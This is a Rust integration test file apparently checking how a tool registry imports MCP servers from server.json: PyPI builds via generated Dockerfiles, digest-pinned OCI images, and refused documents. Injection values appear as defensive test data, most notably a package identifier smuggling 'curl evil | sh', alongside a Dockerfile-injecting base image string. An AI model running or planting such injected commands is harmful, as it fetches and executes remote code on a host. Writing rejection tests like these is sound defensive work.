//! Importing servers from `server.json` on the in-memory ports: what is registered per package
//! type, how verification treats it (generated build, published image, nothing unchanged) and
//! what is refused.

mod common;

use common::Harness;
use serde_json::{json, Value};
use toolshed_core::domain::server_json::{PackageChoice, PackageSource};
use toolshed_core::domain::{ServerId, ServerOrigin, Transport, VerificationState};
use toolshed_core::services::{ImportOptions, VerifyOptions, VerifyOutcome};
use toolshed_core::testing::InMemoryImageStore;
use toolshed_core::Error;

const SCHEMA: &str = "https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json";

fn document(extra: Value) -> Vec<u8> {
    let mut doc = json!({
        "$schema": SCHEMA,
        "name": "io.github.example/time-server",
        "description": "Time and time zone conversions",
        "version": "2026.10.19",
    });
    for (k, v) in extra.as_object().unwrap() {
        doc[k] = v.clone();
    }
    doc.to_string().into_bytes()
}

fn pypi_time(version: &str) -> Vec<u8> {
    document(json!({"packages": [{
        "registryType": "pypi", "identifier": "mcp-server-time", "version": version,
        "transport": {"type": "stdio"},
        "environmentVariables": [{"name": "LOCAL_TIMEZONE", "default": "UTC"}]
    }]}))
}

#[tokio::test]
async fn a_pypi_import_is_verified_by_building_its_generated_dockerfile() {
    let h = Harness::new();
    let imported = h
        .toolshed
        .import_server(&pypi_time("2026.10.19"), ImportOptions::default())
        .await
        .unwrap();
    let server = imported.server;
    assert_eq!(server.id.as_str(), "time-server");
    assert_eq!(server.state, VerificationState::Unverified);
    assert_eq!(
        server.transport,
        Transport::Stdio {
            command: vec!["mcp-server-time".into()]
        }
    );
    assert_eq!(server.settings[0].name.as_str(), "LOCAL_TIMEZONE");
    assert!(matches!(
        &server.origin,
        ServerOrigin::Imported { registry_name, source: PackageSource::Pypi { package, version } }
            if registry_name == "io.github.example/time-server" && package == "mcp-server-time" && version == "2026.10.19"
    ));
    assert_eq!(
        server.metadata.description.as_ref().unwrap().value,
        "Time and time zone conversions"
    );

    let verified = h
        .toolshed
        .verify_server(&server.id, VerifyOptions::default())
        .await
        .unwrap();
    let VerifyOutcome::Verified { server, .. } = verified else {
        panic!("expected a verification");
    };
    assert_eq!(server.state, VerificationState::Verified);
    let requests = h.builder.requests();
    assert_eq!(requests.len(), 1);
    let dockerfile = requests[0]
        .dockerfile
        .as_deref()
        .expect("a generated Dockerfile");
    assert!(
        dockerfile.contains("'mcp-server-time==2026.10.19'"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("FROM python:3.12-slim\n"),
        "{dockerfile}"
    );
    // The package pin stands for the commit: the image is recorded against it.
    let pin = server.origin.fingerprint().unwrap();
    assert_eq!(server.image.as_ref().unwrap().commit, pin);

    // Same name and version: nothing to do, no second build.
    let again = h
        .toolshed
        .verify_server(&server.id, VerifyOptions::default())
        .await
        .unwrap();
    assert!(matches!(again, VerifyOutcome::UpToDate(_)));
    assert_eq!(h.builder.requests().len(), 1);
}

#[tokio::test]
async fn the_deployments_base_image_and_index_shape_the_build() {
    let h = Harness::with_config(|c| {
        c.package_build = toolshed_core::services::package_build_from(|name| match name {
            "TOOLSHED_PYTHON_BASE_IMAGE" => Some("toolshed-test/python:3.11-bookworm".into()),
            "TOOLSHED_PIP_INDEX_URL" => Some("https://pypi.internal.example/simple/".into()),
            "TOOLSHED_PACKAGE_CA_BUNDLE" => Some("/etc/ssl/certs/ca-certificates.crt".into()),
            _ => None,
        })
        .unwrap();
    });
    let id = h
        .toolshed
        .import_server(&pypi_time("2026.10.19"), ImportOptions::default())
        .await
        .unwrap()
        .server
        .id;
    h.toolshed
        .verify_server(&id, VerifyOptions::default())
        .await
        .unwrap();
    let dockerfile = h.builder.requests()[0].dockerfile.clone().unwrap();
    assert!(dockerfile.contains("FROM toolshed-test/python:3.11-bookworm\n"));
    assert!(dockerfile.contains("PIP_INDEX_URL=\"https://pypi.internal.example/simple/\""));
    assert!(dockerfile.contains("COPY ca-certificates.crt"));
    for bad in [
        "https://user:pw@pypi.example/simple",
        "http://pypi.example/simple",
    ] {
        let err = toolshed_core::services::package_build_from(|name| {
            (name == "TOOLSHED_PIP_INDEX_URL").then(|| bad.to_owned())
        })
        .unwrap_err();
        assert!(err.to_string().contains("TOOLSHED_PIP_INDEX_URL"), "{err}");
    }
    let err = toolshed_core::services::package_build_from(|name| {
        (name == "TOOLSHED_PYTHON_BASE_IMAGE").then(|| "python\nRUN id".to_owned())
    })
    .unwrap_err();
    assert!(
        err.to_string().contains("TOOLSHED_PYTHON_BASE_IMAGE"),
        "{err}"
    );
}

#[tokio::test]
async fn a_new_package_version_is_a_new_verification() {
    let h = Harness::new();
    let id = h
        .toolshed
        .import_server(&pypi_time("2026.10.19"), ImportOptions::default())
        .await
        .unwrap()
        .server
        .id;
    h.toolshed
        .verify_server(&id, VerifyOptions::default())
        .await
        .unwrap();
    let first = h.repo_get(id.as_str()).await.image.unwrap();
    // Moving to another version is a new origin: a new pin, a new build.
    let mut server = h.repo_get(id.as_str()).await;
    server.origin = ServerOrigin::Imported {
        registry_name: "io.github.example/time-server".into(),
        source: PackageSource::Pypi {
            package: "mcp-server-time".into(),
            version: "2026.10.20".into(),
        },
    };
    h.repo_update(server).await;
    h.toolshed
        .verify_server(&id, VerifyOptions::default())
        .await
        .unwrap();
    let second = h.repo_get(id.as_str()).await.image.unwrap();
    assert_ne!(first.commit, second.commit);
    assert_eq!(h.builder.requests().len(), 2);
    assert!(h.builder.requests()[1]
        .dockerfile
        .as_deref()
        .unwrap()
        .contains("==2026.10.20"));
}

fn oci(reference: &str) -> Vec<u8> {
    document(json!({"packages": [{
        "registryType": "oci", "identifier": reference,
        "transport": {"type": "streamable-http", "url": "http://localhost:8000/mcp"}
    }]}))
}

#[tokio::test]
async fn an_oci_import_runs_the_published_image_by_digest_without_a_build() {
    let h = Harness::new();
    let digest = InMemoryImageStore::digest_for("published");
    h.images
        .publish_elsewhere("ghcr.io/example/time", "1.2.0", &digest);
    let imported = h
        .toolshed
        .import_server(&oci("ghcr.io/example/time:1.2.0"), ImportOptions::default())
        .await
        .unwrap();
    // The tag was resolved once and the digest recorded.
    let pinned = format!("ghcr.io/example/time:1.2.0@{digest}");
    assert_eq!(
        imported.server.origin.package(),
        Some(&PackageSource::Oci {
            reference: pinned.clone()
        })
    );
    let outcome = h
        .toolshed
        .verify_server(&imported.server.id, VerifyOptions::default())
        .await
        .unwrap();
    let server = outcome.server().clone();
    assert_eq!(server.state, VerificationState::Verified);
    assert!(
        h.builder.requests().is_empty(),
        "no build for a published image"
    );
    let image = &server.image.as_ref().unwrap().image;
    assert_eq!(image.pinned(), format!("ghcr.io/example/time@{digest}"));
    // The check task ran that very digest.
    let task = h.runner.tasks().pop().unwrap();
    assert_eq!(task.spec.unwrap().image.pinned(), image.pinned());

    // A moved tag changes nothing: the import pinned the digest.
    h.images.publish_elsewhere(
        "ghcr.io/example/time",
        "1.2.0",
        &InMemoryImageStore::digest_for("moved"),
    );
    let again = h
        .toolshed
        .verify_server(&server.id, VerifyOptions::default())
        .await
        .unwrap();
    assert!(matches!(again, VerifyOutcome::UpToDate(_)));

    // A digest-pinned reference is kept as given; an unknown tag is refused.
    let pinned_doc = oci(&format!("ghcr.io/example/time@{digest}"));
    let other = h
        .toolshed
        .import_server(
            &pinned_doc,
            ImportOptions {
                id: Some(ServerId::new("time-pinned").unwrap()),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    assert_eq!(other.server.id.as_str(), "time-pinned");
    let err = h
        .toolshed
        .import_server(
            &oci("ghcr.io/example/time:9.9.9"),
            ImportOptions {
                id: Some(ServerId::new("time-missing").unwrap()),
                ..Default::default()
            },
        )
        .await
        .unwrap_err();
    assert!(err.to_string().contains("does not exist"), "{err}");
}

#[tokio::test]
async fn refused_documents_register_nothing() {
    let h = Harness::new();
    let mut old = serde_json::from_slice::<Value>(&pypi_time("1.0.0")).unwrap();
    old["$schema"] =
        json!("https://static.modelcontextprotocol.io/schemas/2025-07-09/server.schema.json");
    let err = h
        .toolshed
        .import_server(old.to_string().as_bytes(), ImportOptions::default())
        .await
        .unwrap_err();
    assert!(matches!(&err, Error::InvalidInput { .. }), "{err:?}");
    assert!(err.to_string().contains("2025-07-09"), "{err}");

    // A remote is reached over https only.
    let remote = document(
        json!({"remotes": [{"type": "streamable-http", "url": "http://mcp.example.com/mcp"}]}),
    );
    let err = h
        .toolshed
        .import_server(&remote, ImportOptions::default())
        .await
        .unwrap_err();
    assert!(err.to_string().contains("https"), "{err}");

    let hostile = document(json!({"packages": [{
        "registryType": "pypi", "identifier": "mcp-server-time; curl evil | sh", "version": "1.0.0",
        "transport": {"type": "stdio"}
    }]}));
    assert!(h
        .toolshed
        .import_server(&hostile, ImportOptions::default())
        .await
        .is_err());
    let err = h
        .toolshed
        .import_server(
            &pypi_time("1.0.0"),
            ImportOptions {
                choice: PackageChoice::Package(4),
                id: None,
            },
        )
        .await
        .unwrap_err();
    assert!(err.to_string().contains("packages[4]"), "{err}");
    assert!(h.toolshed.list_servers(None, 10).await.unwrap().is_empty());

    // A second import under the same id is refused like a second registration.
    h.toolshed
        .import_server(&pypi_time("1.0.0"), ImportOptions::default())
        .await
        .unwrap();
    let err = h
        .toolshed
        .import_server(&pypi_time("1.0.0"), ImportOptions::default())
        .await
        .unwrap_err();
    assert!(matches!(err, Error::AlreadyExists { .. }), "{err:?}");
}
